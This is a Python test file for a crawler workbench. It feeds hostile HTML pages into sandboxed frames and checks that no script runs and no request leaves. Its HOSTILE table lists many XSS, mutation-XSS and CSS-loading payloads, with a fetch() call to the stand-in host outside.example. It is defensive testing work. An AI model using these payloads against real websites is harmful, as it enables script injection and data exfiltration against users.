"""Pages that attack whoever looks at them: nothing runs, nothing leaves."""

from __future__ import annotations

import pytest

from quarkcrawl.workbench.web.worker.frames import MOST_NODES

OUT = "http://outside.example"
RUN = "console.log('RAN');fetch('http://outside.example/ran')"
TEXT = "<p>" + "北京大学网络实验室，搜索引擎与网络信息挖掘。" * 12 + "</p>"

HOSTILE = {
    "script": f"<script>{RUN}</script><script src='{OUT}/x.js'></script><script type=module>{RUN}</script>",
    "known nonce": f"<html data-x='@NONCE@' nonce='@NONCE@'><script nonce='@NONCE@'>{RUN}</script>",
    "handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><div onmouseover="{RUN}" onclick="{RUN}">x</div>'
    f'<details open ontoggle="{RUN}"><summary>s</summary></details><input autofocus onfocus="{RUN}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={OUT}/refresh">',
    "form": f'<form id=f action="{OUT}/form" method=post><input name=a value=b><button autofocus formaction="{OUT}/b">x</button></form>'
    "<script>f.submit()</script>",
    "svg": f"<svg onload=\"{RUN}\"><script>{RUN}</script><use href='{OUT}/s.svg#a'/><image href='{OUT}/i.png'/>"
    f"<animate onbegin=\"{RUN}\" attributeName=x dur=1s /><foreignObject><iframe src='{OUT}/f'></iframe></foreignObject>"
    f"<a href='javascript:{RUN}'><text>t</text></a><style>@import url({OUT}/svg.css)</style></svg>",
    "css": f"<style>@import '{OUT}/a.css';body{{background:url({OUT}/b.png)}}@font-face{{font-family:x;src:url({OUT}/f.woff)}}"
    f"p{{font-family:x;list-style:url('{OUT}/l.png');cursor:url({OUT}/c.cur),auto}}p::after{{content:url({OUT}/d.png)}}</style>"
    f"<link rel=stylesheet href='{OUT}/l.css'><p style=\"background:url({OUT}/p.png)\">x</p><p style='background:u\\72l({OUT}/e.png)'>x</p>",
    "base": f"<base href='{OUT}/base/' target=_top><a href=rel>x</a><img src=rel.png>",
    "embeds": f"<iframe src='{OUT}/i'></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe><object data='{OUT}/o'></object>"
    f"<embed src='{OUT}/e'><video src='{OUT}/v' poster='{OUT}/p' autoplay></video><audio src='{OUT}/a' autoplay></audio>"
    f"<frameset><frame src='{OUT}/f'></frameset><portal src='{OUT}/p'></portal><applet code='{OUT}/c'></applet>",
    "hints": f"<link rel=preload as=script href='{OUT}/p.js'><link rel=prefetch href='{OUT}/f'><link rel=dns-prefetch href='{OUT}'>"
    f"<link rel=preconnect href='{OUT}'><link rel=modulepreload href='{OUT}/m.js'><link rel=icon href='{OUT}/i.ico'>"
    f"<link rel=manifest href='{OUT}/m'><script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{OUT}/s\"]}}]}}</script>",
    "pictures": f"<img src='{OUT}/i.png' srcset='{OUT}/2.png 2x' data-src='{OUT}/lazy.png'><picture><source srcset='{OUT}/s.webp'><img src='{OUT}/s.png'></picture>"
    f"<input type=image src='{OUT}/input.png'><body background='{OUT}/bg.png'><table background='{OUT}/t.png'><tr><td background='{OUT}/td.png'>x</table>",
    "links": f"<a href='javascript:{RUN}'>a</a><a href='{OUT}/top' target=_top ping='{OUT}/ping'>b</a><a href='data:text/html,<script>{RUN}</script>'>c</a>"
    f"<map><area href='{OUT}/area'></map>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><template shadowrootmode=open><script>{RUN}</script></template>'
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></math>'
    f"<textarea></textarea><script>{RUN}</script><xmp></xmp><script>{RUN}</script><title></title><script>{RUN}</script><!--><script>{RUN}</script>-->"
    f"<style></style><script>{RUN}</script><p title='\"><script>{RUN}</script>'>x</p>",
    "messages": "<qk-run data-qk-block=0 data-qk-fill=content id=words class=qk-chosen>x</qk-run><meta name=quarkcrawl-token content=x>",
}  # fmt: skip


BLOCKED = (  # what the browser says of an address that was taken out, or forbids to a frame
    "Failed to decode downloaded font: data:,",
    "Loading the stylesheet 'data:,' violates the following Content Security Policy directive",
    # The one address that a CSS escape hides from the copy, u\\72l(…), stops at the policy.
    f"Loading the image '{OUT}/e.png' violates the following Content Security Policy directive",
    "Blocked opening",
    "Not allowed to navigate",
    "Blocked script execution",
)


def assert_only_blocked(watched) -> None:
    """The browser may say what it has blocked; nothing ran, and nobody else was asked."""
    found = sorted({text for text in watched.said if not text.startswith(BLOCKED)})
    assert found == []
    watched.said.clear()
    watched.assert_quiet()


def page_of(name: str, *, long: bool = False) -> str:
    more = "<p>段落。</p>" * MOST_NODES if long else ""
    return f"<title>{HOSTILE[name]}</title>{HOSTILE[name]}{TEXT}{HOSTILE[name]}{TEXT}{more}"


def everything() -> str:
    return "".join(map(page_of, HOSTILE))


@pytest.mark.full
@pytest.mark.parametrize("long", [False, True], ids=["as it looks", "in parts"])
def test_nothing_runs_and_nothing_leaves(watched, bench, outside, long):
    outside.seen.clear()
    names = ["script"] if long else [*HOSTILE, ""]
    for name in names:
        html = page_of(name, long=long) if name else everything()
        watched.open(f"/page/{bench.add(html)}")
        page = watched.page
        page.frame_locator("#original").locator("p", has_text="搜索引擎").first.wait_for()
        page.frame_locator("#blocks").locator("qk-run", has_text="搜索引擎").first.hover()
        page.frame_locator("#blocks").locator("qk-run", has_text="搜索引擎").first.click()
        page.locator("#facts-of-block .why").wait_for()
        links = page.frame_locator("#blocks").locator("a")
        if links.count():
            links.first.click(force=True)
        assert page.url.startswith(bench.base)
        frames = [frame.url for frame in page.frames if frame.parent_frame is page.main_frame]
        assert len(frames) == 2
        assert all(url.startswith(f"{bench.base}/frames/") for url in frames), frames
        assert not any(frame.parent_frame in page.frames[1:] for frame in page.frames[1:])
        assert_only_blocked(watched)
    assert [text for text in outside.seen if "outside.example" in text] == []


@pytest.mark.full
def test_every_sheet_of_a_hostile_page_is_text(watched, bench, outside):
    outside.seen.clear()
    watched.open(f"/page/{bench.add(everything())}")
    for name in ("items", "source", "compare", "table", "template", "text"):
        watched.page.click(f"#tab-{name}")
        watched.page.locator(f"#sheet-{name} >> css=p, div, td").first.wait_for()
    watched.page.check("input[value=map]", force=True)
    watched.page.frame_locator("#blocks").locator("qk-run").first.wait_for()
    assert_only_blocked(watched)
    assert [text for text in outside.seen if "outside.example" in text] == []


@pytest.mark.full
def test_a_frame_opened_by_itself_is_as_harmless(watched, bench):
    name = bench.add(everything())
    for view in ("original", "content", "map"):
        watched.open(f"/frames/{name}/{view}")
        assert "搜索引擎" in watched.page.inner_text("body")
        assert watched.page.evaluate("origin") == "null"
        if view == "original":
            assert watched.page.locator("script").count() == 0
    assert_only_blocked(watched)
